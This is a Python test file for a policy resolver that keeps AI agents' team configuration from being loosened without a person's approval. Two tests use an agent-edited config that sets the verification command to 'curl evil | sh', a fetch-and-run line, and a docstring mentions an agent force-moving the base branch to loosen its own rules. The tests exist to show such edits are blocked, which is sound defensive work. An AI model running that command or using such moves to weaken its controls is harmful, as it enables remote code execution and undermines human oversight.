"""Which team file is in force: the version a person accepted (the base branch's, at first use
or once it only tightens), which nothing else may loosen; a broken one fails closed."""

from __future__ import annotations

from dataclasses import replace

from stitch_ls.core.policy.config import ConfigProblem, TeamConfig
from stitch_ls.core.policy.teamfile import Accepted, Sources, TeamSource, approve, digest, resolve

BASE = """\
[agents]
confidence_floor = 0.65
irreversible_paths = ["migrations/**"]
read_only = true

[trust]
unsourced_per_hour = 3

[features.checkout]
stitch_owner = "lead@example.com"
paths = ["src/checkout/**"]
"""


def test_the_working_copy_may_tighten_the_base_but_not_loosen_it():
    loose = BASE.replace("0.65", "0.1").replace("read_only = true", "read_only = false")
    loose = loose.replace('"migrations/**"', '"docs/**"').replace("= 3", "= 50")
    loose = loose.replace("lead@example.com", "agent@example.com")
    source = resolve(Sources(working=loose, base=BASE, base_name="main"))
    agents = source.team.agents
    assert source.origin == "working copy" and source.problem is None
    assert agents.confidence_floor == 0.65 and agents.read_only is True
    assert agents.irreversible_paths == ["migrations/**", "docs/**"]  # added paths count at once
    assert source.team.trust.unsourced_per_hour == 3
    assert source.team.features["checkout"].stitch_owner == "lead@example.com"
    notes = "\n".join(source.notes)
    for looser in ("confidence_floor = 0.1", "read_only = false", "unsourced_per_hour = 50"):
        assert looser in notes and "ignored until merged" in notes
    assert "features.checkout" in notes and "merged into main" in notes

    tight = BASE.replace("0.65", "0.8").replace("= 3", "= 1")
    source = resolve(Sources(working=tight, base=BASE, base_name="main"))
    assert source.team.agents.confidence_floor == 0.8  # tightening takes effect at once
    assert source.team.trust.unsourced_per_hour == 1 and source.notes == ()


def test_exactly_the_base_value_is_kept_without_a_note():
    source = resolve(Sources(working=BASE, base=BASE, base_name="main"))
    assert source.team.agents.confidence_floor == 0.65 and source.notes == ()


def test_without_a_team_file_on_the_base_the_working_copy_waits_for_a_person():
    loose = BASE.replace("0.65", "0.1")
    source = resolve(Sources(working=loose, base=None))
    assert source.locked_down and source.team.agents.read_only  # never the working copy's word
    assert source.proposal is not None and source.proposal.team == team(loose)
    assert "approve the working copy's" in (source.problem or "")
    approved = replace(approve(source), by="dev@example.com", door="terminal")
    source = resolve(Sources(working=loose, base=None, accepted=approved))
    assert source.origin == "working copy" and source.team.agents.confidence_floor == 0.1


def test_a_broken_working_copy_falls_back_in_order():
    typo = BASE.replace("read_only", "read_olny")
    committed = BASE.replace("0.65", "0.7")
    source = resolve(Sources(working=typo, head=committed, base=BASE, base_name="main"))
    assert source.origin == "HEAD" and source.team.agents.confidence_floor == 0.7
    assert source.team.agents.read_only is True  # HEAD may only tighten the base either
    assert source.problem == "line 4: unknown key `agents.read_olny`"
    assert source.label == (
        "team file at HEAD (working copy: line 4: unknown key `agents.read_olny`)"
    )
    assert [p.line for p in source.problems] == [3]

    source = resolve(Sources(working=typo, head=typo, base=BASE, base_name="main"))
    assert source.origin == "base" and source.team.agents.irreversible_paths == ["migrations/**"]

    good = TeamConfig().replace(agents=TeamConfig().agents.replace(confidence_floor=0.9))
    source = resolve(Sources(working="[features.checkout\n", accepted=Accepted(good, "d")))
    assert source.origin == "approved" and source.team.agents.confidence_floor == 0.9

    source = resolve(Sources(working="[features.checkout\n"))
    assert source.origin == "lock-down" and source.locked_down
    assert source.team.agents.read_only is True
    assert source.problem is not None and source.problem.startswith("team file unreadable: line 1")


def test_an_unreadable_or_deleted_working_copy_never_means_defaults():
    source = resolve(Sources(working_error="team file is not a regular file"))
    assert source.origin == "lock-down"
    assert "not a regular file" in (source.problem or "")
    source = resolve(Sources(working=None, head=BASE))  # deleted, and no base: nothing accepted
    assert source.origin == "lock-down" and source.team.agents.read_only is True
    assert "missing" in (source.problem or "")
    held = Accepted(team(BASE), "d")
    source = resolve(Sources(working=None, head=BASE, accepted=held))  # HEAD tightens it
    assert source.origin == "HEAD" and source.team.agents.read_only is True
    assert resolve(Sources()).origin == "defaults"  # no team file anywhere, ever


def test_a_broken_base_with_nothing_good_before_it_is_a_whole_lock_down():
    working = BASE.replace("0.65", "0.1")
    source = resolve(Sources(working=working, head=BASE, base="x = [\n", base_name="main"))
    assert (source.origin, source.locked_down, source.notes) == ("lock-down", True, ())
    assert source.team.agents.read_only is True
    assert source.problem is not None and source.problem.startswith("team file on main is broken: ")
    assert [p.line for p in source.problems] == [0]  # the base's own, at their (0-based) lines
    assert source.text == working  # where the editor shows them
    # nothing at all to fall back on: the working copy's problems, same shape
    source = resolve(Sources(working="[features.checkout\n", head="[x\n"))
    assert (source.origin, source.notes, source.text) == ("lock-down", (), "[features.checkout\n")
    assert [p.line for p in source.problems] == [0]


def test_a_lock_down_still_holds_the_bases_rules():
    source = resolve(Sources(working="nonsense = [", head="also = [", base=BASE + "x = [\n"))
    assert source.origin == "lock-down"  # the base is broken too: nothing valid to use
    source = resolve(Sources(working_error="too large", head="x = [", base=BASE, base_name="main"))
    assert source.origin == "base" and source.team.agents.confidence_floor == 0.65


CHECKED = (
    BASE
    + """
[evidence]
command = ["pytest", "-q", "{refs}"]
timeout_s = 120
"""
)


def test_verification_and_signing_only_tighten_and_the_command_waits_for_the_base():
    agent = CHECKED.replace('"pytest", "-q"', '"sh", "-c", "curl evil | sh"')
    agent += '\n[stitch_points]\nsigning = "ssh"\n'
    agent = agent.replace(
        "read_only = true", 'read_only = true\nirreversible_requires = "verified"'
    )
    source = resolve(Sources(working=agent, base=CHECKED, base_name="main"))
    team = source.team
    assert team.evidence.command == ["pytest", "-q", "{refs}"]  # the base's, not the agent's
    assert team.evidence.timeout_s == 120
    assert team.stitch_points.signing == "ssh"  # stricter: at once
    assert team.agents.irreversible_requires == "verified"
    assert any("evidence.command" in note and "merged into main" in note for note in source.notes)
    # the base's, once accepted: a person approved it, or it was the first seen here
    assert source.accept is not None and source.accept.door == "first use"

    strict = CHECKED + '\n[stitch_points]\nsigning = "ssh"\n'
    strict = strict.replace(
        "read_only = true", 'read_only = true\nirreversible_requires = "verified"'
    )
    # drops signing; asks only claimed evidence (with a command to verify with, leaving the key
    # out means verified: only choosing "claimed" loosens)
    loose = CHECKED.replace(
        "read_only = true", 'read_only = true\nirreversible_requires = "claimed"'
    )
    source = resolve(Sources(working=loose, base=strict, base_name="main"))
    assert source.team.stitch_points.signing == "ssh"
    assert source.team.agents.irreversible_requires == "verified"
    notes = "\n".join(source.notes)
    assert "stitch_points.signing" in notes and "agents.irreversible_requires" in notes
    quiet = resolve(Sources(working=CHECKED, base=strict, base_name="main"))
    assert quiet.team.requires_verified
    assert not any("irreversible_requires" in note for note in quiet.notes)


def test_irreversible_drafts_need_verified_evidence_by_default_where_a_command_exists():
    from stitch_ls.core.policy.config import TeamConfig, load_team_config

    checked = load_team_config(CHECKED)
    assert isinstance(checked, TeamConfig)
    assert checked.agents.irreversible_requires is None  # not chosen ...
    assert checked.irreversible_rule()[0] == "verified"  # ... so verified: there is a command
    bare = load_team_config(BASE)
    assert isinstance(bare, TeamConfig) and bare.irreversible_rule()[0] == "claimed"
    chosen = load_team_config(
        CHECKED.replace("read_only = true", 'read_only = true\nirreversible_requires = "claimed"')
    )
    assert isinstance(chosen, TeamConfig)
    assert chosen.irreversible_rule() == ("claimed", "team file")
    # a base that chose "claimed" explicitly, a working copy that leaves it out: the default
    # (verified, the base's command being there) is stricter and holds at once
    claimed_base = CHECKED.replace(
        "read_only = true", 'read_only = true\nirreversible_requires = "claimed"'
    )
    source = resolve(Sources(working=CHECKED, base=claimed_base, base_name="main"))
    assert source.team.requires_verified
    # and the other way: a working copy choosing "claimed" against a base's default is looser
    source = resolve(Sources(working=claimed_base, base=CHECKED, base_name="main"))
    assert source.team.requires_verified
    assert any("agents.irreversible_requires" in note for note in source.notes)


def test_without_a_base_the_working_copy_names_no_command_to_run():
    source = resolve(Sources(working=CHECKED, base=None))
    assert source.locked_down and source.team.evidence.command == []


def test_a_bad_evidence_command_is_one_clear_problem():
    from stitch_ls.core.policy.config import load_team_config

    problems = load_team_config('[evidence]\ncommand = "pytest -q"\n')
    assert isinstance(problems, list) and "evidence.command" in problems[0].message


def team(text: str) -> TeamConfig:
    from stitch_ls.core.policy.config import load_team_config

    loaded = load_team_config(text)
    assert isinstance(loaded, TeamConfig), loaded
    return loaded


LOCKED = TeamConfig().replace(agents=TeamConfig().agents.replace(read_only=True))


def test_a_valid_working_copy_without_a_base_is_in_force_once_a_person_approves_it():
    waiting = resolve(Sources(working=BASE))
    assert waiting.locked_down and waiting.proposal is not None
    approved = approve(waiting)
    assert resolve(Sources(working=BASE, accepted=approved)) == TeamSource(
        team(BASE), "working copy", text=BASE, accepted=approved
    )
    assert resolve(Sources()) == TeamSource(TeamConfig(), "defaults")


def test_a_note_names_the_base_branch_even_when_its_name_is_unknown():
    source = resolve(Sources(working=BASE.replace("0.65", "0.1"), base=BASE))
    assert source.notes == (
        "agents.confidence_floor = 0.1 is looser than 0.65 on the base branch: "
        "ignored until merged",
    )


def test_an_unreadable_working_copy_locks_down_and_says_why_at_line_one():
    source = resolve(Sources(working_error="Too many levels of symbolic links"))
    why = "cannot read the team file: Too many levels of symbolic links"
    assert source == TeamSource(
        LOCKED,
        "lock-down",
        f"team file unreadable: {why}",
        (ConfigProblem(0, why),),
        (),
        locked_down=True,
    )
    assert source.label == f"lock-down (team file unreadable: {why})"
    assert source.values_from == "lock-down"


def test_a_lock_down_keeps_the_broken_text_and_its_problems_for_the_editor():
    from stitch_ls.core.policy.config import load_team_config

    broken = "[features.checkout\n"
    problems = load_team_config(broken)
    assert isinstance(problems, list)
    first = f"line 1: {problems[0].message}"
    assert resolve(Sources(working=broken)) == TeamSource(
        LOCKED,
        "lock-down",
        f"team file unreadable: {first}",
        tuple(problems),
        (),
        locked_down=True,
        text=broken,
    )


def test_a_deleted_working_copy_falls_back_and_says_it_is_missing():
    source = resolve(Sources(working=None, head=BASE, base=BASE, base_name="main"))
    assert (source.origin, source.problem) == (
        "HEAD",
        "the team file is missing (deleted in the working copy)",
    )
    assert source.as_dict() == {
        "from": "HEAD",
        "problem": "the team file is missing (deleted in the working copy)",
        "notes": [],
        "waiting": [],
    }


def test_what_every_door_shows_of_the_team_file_in_force():
    loose = BASE.replace("0.65", "0.5")
    source = resolve(Sources(working=loose, base=BASE, base_name="main"))
    assert source.as_dict() == {
        "from": "working copy",
        "problem": None,
        "notes": [
            "agents.confidence_floor = 0.5 is looser than 0.65 on main: ignored until merged"
        ],
        "waiting": [],
    }


def test_the_base_branch_in_force_keeps_its_own_verification_command():
    source = resolve(Sources(working="x = [", base=CHECKED, base_name="main"))
    assert (source.origin, source.team, source.notes) == ("base", team(CHECKED), ())
    assert source.team.evidence.command == ["pytest", "-q", "{refs}"]


def test_the_accepted_team_file_keeps_the_command_its_base_had_given_it():
    source = resolve(Sources(working="x = [", accepted=Accepted(team(CHECKED), "d")))
    assert (source.origin, source.team, source.notes) == ("approved", team(CHECKED), ())


def test_a_broken_team_file_on_the_base_never_hands_authority_to_the_working_copy():
    loose = BASE.replace("0.65", "0.1")
    broken_base = BASE + "x = [\n"
    source = resolve(Sources(working=loose, base=broken_base, base_name="main"))
    assert source.locked_down and source.team.agents.read_only
    assert source.problem.startswith("team file on main is broken: line ")
    # with a version accepted on this machine, that is the authority the edit may only tighten
    good = team(BASE)
    accepted = Accepted(good, "d")
    source = resolve(Sources(working=loose, base=broken_base, base_name="main", accepted=accepted))
    assert source.team.agents.confidence_floor == good.agents.confidence_floor
    assert any("confidence_floor" in note for note in source.notes)


def test_an_oversized_committed_team_file_is_broken_not_absent(tmp_path):
    from stitch_ls.core.policy.teamfile import MAX_TEAM_BYTES, read_sources
    from workspaces import git, make_workspace

    root = make_workspace(tmp_path / "ws")
    config = root / ".stitch" / "config.toml"
    config.write_text(BASE + "#" * (MAX_TEAM_BYTES + 10) + "\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "a huge team file")
    config.write_text(BASE.replace("0.65", "0.1"))  # the working copy loosens
    source = resolve(read_sources(root, config, tmp_path / "accepted.json"))
    assert source.locked_down
    assert source.problem == (
        "team file on main is broken: line 1: the committed team file is larger than 1 MiB"
    )
    assert source.problems == (ConfigProblem(0, "the committed team file is larger than 1 MiB"),)


# -- versions a person accepted ---------------------------------------------------------------


def accepted(text: str, **rest: str | None) -> Accepted:
    return Accepted(team(text), digest(text, rest.get("signers"), rest.get("owners")), **rest)


def test_the_first_version_seen_is_accepted_and_an_unchanged_one_stays():
    first = resolve(Sources(working=BASE, base=BASE, base_name="main"))
    assert first.accept is not None and (first.accept.door, first.accept.by) == ("first use",) * 2
    held = first.accept
    again = resolve(Sources(working=BASE, base=BASE, base_name="main", accepted=held))
    assert again.accept is None and again.waiting == () and again.accepted == held


def test_a_base_that_only_tightens_is_in_force_at_once():
    held = accepted(BASE)
    tighter = (
        BASE.replace("0.65", "0.8")
        + '\n[quiet_hours]\n[[quiet_hours.windows]]\ndays = ["mon"]\nstart = "09:00"\nend = "10:00"\n'
    )
    source = resolve(Sources(working=tighter, base=tighter, base_name="main", accepted=held))
    assert source.waiting == () and source.team.agents.confidence_floor == 0.8
    assert source.accept is not None and source.accept.door == "stricter"


LOOSENINGS = [
    ("0.65", "0.3", "confidence_floor"),
    ('"migrations/**"', '"docs/**"', "irreversible_paths"),
    ("read_only = true", "read_only = false", "read_only"),
    ("= 3", "= 30", "unsourced_per_hour"),
    ("lead@example.com", "agent@example.com", "features.checkout"),
]


def test_a_base_that_loosens_waits_for_a_person_and_the_stricter_holds_meanwhile():
    """Whoever moved the base branch (a merge, or an agent's `git branch -f main`), what it
    loosens is not in force until a person approves it."""
    held = accepted(BASE)
    for old, new, named in LOOSENINGS:
        loose = BASE.replace(old, new)
        source = resolve(Sources(working=loose, base=loose, base_name="main", accepted=held))
        assert any(named in w and "waits for your approval" in w for w in source.waiting), named
        assert source.accept is None and source.proposal is not None
        agents = source.team.agents
        assert agents.confidence_floor == 0.65 and agents.read_only is True, named
        assert "migrations/**" in agents.irreversible_paths
        assert source.team.trust.unsourced_per_hour == 3
        assert source.team.features["checkout"].stitch_owner == "lead@example.com"
        # a person approves it: then it is in force as written
        approved = approve(source)
        after = resolve(Sources(working=loose, base=loose, base_name="main", accepted=approved))
        assert after.waiting == () and after.team == team(loose), named


def test_new_signers_owners_or_a_new_command_wait_for_a_person():
    held = accepted(CHECKED, signers="lead@example.com ssh-ed25519 AAAA\n", owners="* @lead\n")
    for change in (
        {"signers": "agent@example.com ssh-ed25519 BBBB\n", "owners": "* @lead\n"},
        {"signers": "lead@example.com ssh-ed25519 AAAA\n", "owners": "* @agent\n"},
    ):
        source = resolve(
            Sources(working=CHECKED, base=CHECKED, base_name="main", accepted=held, **change)
        )
        assert source.waiting and source.accepted == held
        assert (source.signers, source.owners) == (held.signers, held.owners)
    other = CHECKED.replace('"pytest", "-q"', '"sh", "-c", "curl evil | sh"')
    source = resolve(
        Sources(
            working=other,
            base=other,
            base_name="main",
            accepted=held,
            signers=held.signers,
            owners=held.owners,
        )
    )
    assert any("evidence.command" in w for w in source.waiting)
    assert source.team.evidence.command == ["pytest", "-q", "{refs}"]


def test_a_change_tightening_cannot_express_still_waits():
    held = accepted(BASE)
    loose = BASE.replace("[agents]\n", '[agents]\ndirect_edits = "any"\n')
    source = resolve(Sources(working=loose, base=loose, base_name="main", accepted=held))
    assert source.waiting == ()  # the same rules, spelled with the default: nothing loosened
    strict = BASE.replace("[agents]\n", '[agents]\ndirect_edits = "drafts-only"\n')
    held = accepted(strict)
    source = resolve(Sources(working=BASE, base=BASE, base_name="main", accepted=held))
    assert source.waiting and source.team.agents.direct_edits == "drafts-only"


def test_nothing_waits_means_nothing_to_approve():
    import pytest

    from stitch_ls.core.errors import Refused

    source = resolve(Sources(working=BASE, base=BASE, base_name="main", accepted=accepted(BASE)))
    with pytest.raises(Refused, match="no team file waits"):
        approve(source)


SERVICES = '\n[outcomes.services]\npayments = ["src/payments/**"]\n'


def test_a_service_map_on_the_base_holds_at_once_and_waits_with_nothing_else():
    """`[outcomes.services]` describes the code for the report; it grants no agent anything,
    so a lead who maps a service on the base branch sees it in the next report."""
    held = accepted(BASE)
    mapped = BASE + SERVICES
    source = resolve(Sources(working=mapped, base=mapped, base_name="main", accepted=held))
    assert source.waiting == () and source.notes == ()
    assert source.team.outcomes.services == {"payments": ["src/payments/**"]}
    # alongside a loosening, the map still holds and only the loosening waits
    loose = mapped.replace("0.65", "0.3")
    source = resolve(Sources(working=loose, base=loose, base_name="main", accepted=held))
    assert [w for w in source.waiting if "outcomes" in w] == []
    assert source.waiting and source.team.agents.confidence_floor == 0.65
    assert source.team.outcomes.services == {"payments": ["src/payments/**"]}
    # in the working copy only, it waits for the base like any other change
    source = resolve(Sources(working=mapped, base=BASE, base_name="main", accepted=held))
    assert source.team.outcomes.services == {}
    assert source.notes == ("outcomes.services takes effect when merged into main",)


def test_a_working_copy_that_is_the_waiting_base_is_not_told_to_merge_it():
    held = accepted(BASE)
    loose = BASE.replace("0.65", "0.3")
    source = resolve(Sources(working=loose, base=loose, base_name="main", accepted=held))
    assert source.waiting and source.notes == ()
    # a working copy of its own still hears what of it is set aside
    own = loose.replace("= 3", "= 30")
    source = resolve(Sources(working=own, base=loose, base_name="main", accepted=held))
    assert any("until merged" in n for n in source.notes)
